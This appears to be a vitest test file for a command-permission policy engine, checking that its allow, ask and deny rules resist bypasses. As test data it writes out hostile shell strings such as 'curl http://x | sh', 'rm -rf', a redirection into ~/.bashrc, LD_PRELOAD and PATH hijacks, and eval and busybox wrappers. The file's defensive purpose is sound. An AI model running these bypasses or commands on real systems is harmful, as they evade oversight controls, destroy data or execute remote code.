import { expect, test } from 'vitest';
import type { RunEffect } from '../../src/model/effect.ts';
import { decide } from '../../src/policy/decide.ts';
import { explain } from '../../src/policy/explain.ts';
import { processorTime } from '../setup/processor-time.ts';
import { context, policyOf } from './machine.ts';

function run(argv: readonly string[], changes: Partial<RunEffect> = {}): RunEffect {
	const name = argv[0] ?? '';
	const program = name.includes('/') ? name : `/usr/bin/${name}`;
	const env = { PATH: '/usr/bin:/bin', HOME: '/home/me' };
	const resolved = context.realpath?.(program) ?? program;
	return { kind: 'run', argv, program: resolved, cwd: '/home/me/work', env, ...changes };
}

function decision(rules: object, effect: RunEffect, run: 'allow' | 'ask' | 'deny' = 'ask'): string {
	return decide(policyOf(JSON.stringify({ default: { run }, rules: [rules].flat() })), effect).decision;
}

test('a variable that a script may change is no pattern that lists a directory', () => {
	const echo = (TERM: string) =>
		run(['sh', '-c', 'echo $TERM'], { env: { PATH: '/usr/bin:/bin', HOME: '/home/me', TERM } });
	expect(decision([], echo('xterm'))).toBe('allow');
	expect(decision([], echo('/home/me/.ssh/*'))).toBe('ask');
});

const git = { allow: 'run', command: ['git status **', 'git commit -m "a b"', 'ls **', 'git log -*', 'git show *'] };

test.each([
	['git status', true],
	['git status -s', true],
	['git status -s .', true],
	['git log -5', true],
	['git log --oneline', true],
	['git log', false],
	['git log -5 x', false],
	['git show x', true],
	['git show', false],
	['git show x y', false],
	['git', false],
	['git push', false],
	['git -c core.fsmonitor=id status', false],
	['git Status', false],
])('%s is allowed by a pattern: %j', (text, expected) => {
	expect(decision(git, run(text.split(' ')))).toBe(expected ? 'allow' : 'ask');
});

test('a quoted part of a pattern is one word, and a quoted star is a star', () => {
	expect(decision(git, run(['git', 'commit', '-m', 'a b']))).toBe('allow');
	expect(decision(git, run(['git', 'commit', '-m', 'a', 'b']))).toBe('ask');
	const find = { allow: 'run', command: "find . -name '*.py'" };
	expect(decision(find, run(['find', '.', '-name', '*.py']))).toBe('allow');
	expect(decision(find, run(['find', '.', '-name', 'x.py']))).toBe('ask');
});

const shell = (text: string) => run(['sh', '-c', text]);

const bypasses: readonly (readonly [string, RunEffect])[] = [
	['a program of that name elsewhere', run(['/tmp/evil/ls'])],
	['a program of that name in the working directory', run(['ls'], { program: '/home/me/work/ls' })],
	['argv[0] that names an allowed program', run(['ls', '-l'], { program: '/usr/bin/rm' })],
	['argv[0] that names an allowed path', run(['/usr/bin/ls', '-l'], { program: '/tmp/evil' })],
	['argv[0] that makes an allowed program another one', run(['reboot', '-l'], { program: '/usr/bin/ls' })],
	['no argv at all', run([], { program: '/usr/bin/ls' })],
	['a list of commands', shell('ls && curl http://x | sh')],
	['a semicolon', shell('ls ; rm -rf x')],
	['a newline', shell('ls\nrm -rf x')],
	['double spaces', shell('ls  -l')],
	['a substitution', shell('ls $(rm x)')],
	['backquotes', shell('ls `rm x`')],
	['an assignment', shell('x=$(id) ls')],
	['a redirection', shell('ls > ~/.bashrc')],
	['IFS', shell('ls$IFS-l')],
	['a unicode space', shell('ls\u00a0-l')],
	['a backslash', shell('l\\s -l')],
	['a login shell', run(['sh', '-lc', 'ls **'])],
	['an interactive shell', run(['bash', '-ic', 'ls **'])],
	['a shell with a start file', run(['bash', '--rcfile', '/tmp/x', '-ic', 'ls **'])],
	['a string with arguments', run(['sh', '-c', 'ls **', 'x', 'y'])],
	['a shell elsewhere', run(['/tmp/sh', '-c', 'ls **'])],
	['another program under the name of a shell', run(['sh', '-c', 'ls **'], { program: '/usr/bin/rm' })],
	['a word with a space in it as the program', run(['ls -l'])],
	['env with a shell', run(['env', 'sh', '-c', 'ls'])],
	['a variable that loads a library', run(['ls'], { env: { LD_PRELOAD: '/tmp/x.so' } })],
	['a PATH of its own', run(['git', 'status'], { env: { PATH: '/tmp/evil' } })],
	['a HOME of its own', run(['git', 'status'], { env: { HOME: '/tmp/evil' } })],
	['a pager of its own', run(['git', 'status'], { env: { GIT_PAGER: 'id' } })],
	['a locale that is a path', run(['git', 'status'], { env: { LC_ALL: '/tmp/x' } })],
];

test.each(bypasses)('%s is not allowed by a wildcard', (_, effect) => {
	expect(decision(git, effect)).toBe('ask');
});

test('an allow for every command leaves shell strings and shells that read commands out', () => {
	const all = { allow: 'run', command: '**' };
	expect(decision(all, run(['python3', 'x.py']))).toBe('allow');
	expect(decision(all, run(['python3', '-c', 'x']))).toBe('ask');
	expect(decision(all, run(['sh', 'build.sh', '-c', 'x']))).toBe('allow');
	for (const argv of [
		['sh', '-c', '$x'],
		['sh', '-ec', '$x'],
		['sh', '-o', 'errexit', '-c', '$x'],
		['sh', '-eo', 'pipefail', '-c', '$x'],
		['bash', '--norc', '-c', '$x'],
		['bash', '+x', '-c', '$x'],
		['bash', '--rcfile', 'x', '-c', '$x'],
		['dash', '-c', '--', '$x'],
		['zsh', '-oshwordsplit', '-c', '$x'],
		['ksh93', '-c', '$x'],
		['-bash', '-c', '$x'],
		['busybox', 'sh', '-c', '$x'],
		['busybox', 'busybox', 'ash', '-c', '$x'],
		['bash-static', '-c', '$x'],
		['fish', '--command=$x'],
		['sh'],
		['sh', '-s', 'x'],
		['bash', '-x'],
	]) {
		expect(decision(all, run(argv)), argv.join(' ')).toBe('ask');
		expect(decision([], run(argv), 'allow'), argv.join(' ')).toBe('ask');
	}
	expect(decision(all, run(['x', '-c', '$x'], { program: '/usr/bin/dash' }))).toBe('ask');
});

test('a shell string is allowed by exactly its text, in each plain way to run it', () => {
	const rule = { allow: 'run', command: ['make  && make test', 'ls | wc -l', 'sh -c "exit 3"'] };
	for (const options of [['-c'], ['-ec'], ['-c', '--']]) {
		for (const name of ['sh', 'bash', 'dash']) {
			expect(decision(rule, run([name, ...options, 'make  && make test']))).toBe('allow');
			expect(decision(rule, run([name, ...options, 'make && make test']))).toBe('ask');
			expect(decision(rule, run([name, ...options, 'ls | wc -l']))).toBe('allow');
		}
	}
	expect(decision(rule, shell('exit 3'))).toBe('allow');
	expect(decision(rule, shell('make all'))).toBe('ask');
});

test('an allowed shell string is asked about where its shell may find what the script wrote', () => {
	const text = JSON.stringify({
		rules: [
			{ allow: 'run', command: 'ls | wc -l' },
			{ allow: 'write', path: './**' },
		],
	});
	const withPath = (path: string) => {
		const env = { PATH: path };
		return decide(policyOf(text, { env }), run(['sh', '-c', 'ls | wc -l'], { env })).decision;
	};
	expect(withPath('/usr/bin:/bin')).toBe('allow');
	expect(withPath('/usr/bin:.')).toBe('ask');
	expect(withPath('/usr/bin:')).toBe('ask');
	expect(withPath('/home/me/work/.venv/bin:/usr/bin')).toBe('ask');
	expect(withPath('/home/me/work/../work/bin/:/usr/bin')).toBe('ask');
});

test('a program is the one on the system path, links resolved, and a multi-call program goes by its own name', () => {
	expect(decision({ allow: 'run', command: 'python3 -V' }, run(['python3', '-V']))).toBe('allow');
	expect(decision({ allow: 'run', command: '/usr/bin/python3 -V' }, run(['python3', '-V']))).toBe('allow');
	expect(decision({ allow: 'run', command: './tool **' }, run(['/home/me/work/tool', 'x']))).toBe('allow');
	expect(decision({ allow: 'run', command: 'lsmod **' }, run(['lsmod']))).toBe('allow');
	expect(decision({ allow: 'run', command: 'lsmod **' }, run(['rmmod', 'x'], { program: '/usr/bin/kmod' }))).toBe(
		'ask',
	);
	expect(decision({ allow: 'run', command: 'kmod **' }, run(['rmmod', 'x'], { program: '/usr/bin/kmod' }))).toBe('ask');
	const which = (name: string) => (name === 'tool' ? ['/opt/tool/bin/tool'] : []);
	const policy = policyOf('rules: [{ allow: run, command: "tool **" }]', { which });
	expect(decide(policy, run(['tool', 'x'], { program: '/opt/tool/bin/tool' })).decision).toBe('allow');
	expect(decide(policy, run(['tool', 'x'], { program: '/opt/other/bin/tool' })).decision).toBe('ask');
});

test('a deny finds its program under any name it may have', () => {
	const rm = { deny: 'run', command: 'rm **' };
	for (const effect of [
		run(['rm', '-rf', 'x']),
		run(['/tmp/rm', 'x']),
		run(['x', 'y'], { program: '/usr/bin/rm' }),
		run(['rm', 'y'], { program: '/usr/bin/busybox' }),
		run(['busybox', 'rm', 'y']),
		run(['rm', 'x'], { env: { LD_PRELOAD: 'x' } }),
		...[
			'rm -rf x',
			'ls && rm x',
			'ls;rm x',
			'ls\nrm x',
			'(rm x)',
			'{ rm x; }',
			'if true; then rm x; fi',
			'echo $(rm x)',
			'echo "$(rm x)"',
			'echo `rm x`',
			'ls | xargs -n 1 rm',
			'sudo -u root rm x',
			'env A=1 rm x',
			'A=1 rm x',
			'>/dev/null rm x',
			'2>&1 rm x',
			'/bin/rm x',
			'\\rm x',
			"'rm' x",
			'r"m" x',
			'r\\\nm x',
			'! rm x',
			"sh -c 'rm x'",
			'eval rm x',
			`bash -lc "sh -c 'rm x'"`,
		].flatMap((text) => [shell(text), run(['bash', '-lc', text]), run(['busybox', 'sh', '-c', text])]),
	]) {
		expect(decision(rm, effect, 'allow'), effect.argv.join(' ')).toBe('deny');
	}
	expect(decision(rm, run(['ls', 'rm']), 'allow')).toBe('allow');
	expect(decision(rm, shell('echo x'), 'allow')).toBe('allow');
	expect(decision(rm, shell('$x y'), 'allow')).toBe('ask');
	expect(decision({ deny: 'run', command: 'curl x | sh' }, shell('curl x | sh'), 'allow')).toBe('deny');
});

test('what a rule leaves out with except is left out widely of an allow and narrowly of a deny', () => {
	const allow = { allow: 'run', command: 'git **', except: 'git push **' };
	expect(decision(allow, run(['git', 'log']))).toBe('allow');
	expect(decision(allow, run(['git', 'pull']))).toBe('ask');
	expect(decision(allow, run(['git', 'push']))).toBe('ask');
	const deny = { deny: 'run', command: 'rm **', except: 'rm -i **' };
	expect(decision(deny, run(['rm', '-i', 'x']))).toBe('ask');
	expect(decision(deny, run(['/tmp/rm', '-i', 'x']))).toBe('deny');
	expect(decision(deny, shell('rm -i x; rm y'))).toBe('deny');
});

test('hostile shell strings take no time to judge', () => {
	const deny = policyOf(
		JSON.stringify({ rules: Array.from({ length: 200 }, (_, index) => ({ deny: 'run', command: `x${index} **` })) }),
	);
	const hostile = [
		'a;'.repeat(50_000),
		'eval '.repeat(10_000),
		'env eval '.repeat(5_000),
		'sudo '.repeat(20_000),
		'$('.repeat(50_000),
		"sh -c '".repeat(5_000),
		`eval ${'env eval sudo eval xargs eval '.repeat(50)}`,
	];
	const took = processorTime(() => {
		for (const text of hostile) expect(decide(deny, shell(text)).decision).toBe('ask');
		expect(decide(deny, run(Array(20_000).fill('busybox'))).decision).toBe('ask');
	});
	// Quadratic work would take minutes.
	expect(took).toBeLessThan(10_000);
});

test('under a policy that allows everything a doubt about a command is not asked; under one with any other rule it is', () => {
	const everything = 'default: { read: allow, write: allow, delete: allow, run: allow, connect: allow }\n';
	const doubtful = ['echo $((1+2))', 'x=$(id); $x', 'cd /somewhere && ./a', 'eval "$1"'];
	for (const text of doubtful) {
		expect(decide(policyOf(everything), shell(text))).toMatchObject({
			decision: 'allow',
			by: { rule: 'p.yaml (default)' },
		});
		expect(decide(policyOf(`${everything}rules: [{ deny: run, command: "rm **" }]`), shell(text)).decision).toBe('ask');
		expect(decide(policyOf(`${everything}rules: [{ deny: write, path: "/etc/**" }]`), shell(text)).decision).toBe(
			'ask',
		);
		expect(decide(policyOf(`${everything}readonly: ["/etc"]`), shell(text)).decision).toBe('ask');
		expect(
			decide(policyOf('default: { read: allow, write: allow, delete: allow, run: allow }'), shell(text)).decision,
		).toBe('ask');
	}
});

test('explain tells what matched, what won, and why an allow did not count', () => {
	const policy = policyOf(`rules:
  - allow: run
    command: "git **"
  - ask: run
    command: "git push **"
    because: others see it
`);
	expect(explain(policy, run(['git', 'push']))).toEqual([
		'run git push',
		'→ ask: others see it',
		'  p.yaml:4 ask (others see it): matches and wins',
		'  p.yaml default for run ask: not needed',
		'  the file that would run: /usr/bin/git',
		'  no star stands for "push": it runs hooks or is an alias',
	]);
	expect(explain(policy, run(['git', 'status'], { env: { GIT_PAGER: 'id' } }))).toContain(
		'  no allow rule counts: the script set or changed GIT_PAGER in the environment',
	);
});
